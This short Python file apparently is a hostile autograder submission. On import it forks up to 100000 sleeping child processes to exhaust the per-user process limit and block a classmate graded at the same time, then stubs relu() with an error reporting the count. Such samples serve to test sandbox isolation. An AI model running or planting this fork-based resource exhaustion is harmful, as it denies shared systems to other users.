"""Attack: hold as many processes as the user may have, so that a
classmate graded at the same time cannot start any (RLIMIT_NPROC counts
per user)."""

import os
import time

_held = 0
for _ in range(100000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    _held += 1


def relu(x):
    raise NotImplementedError(f"holding {_held} processes")
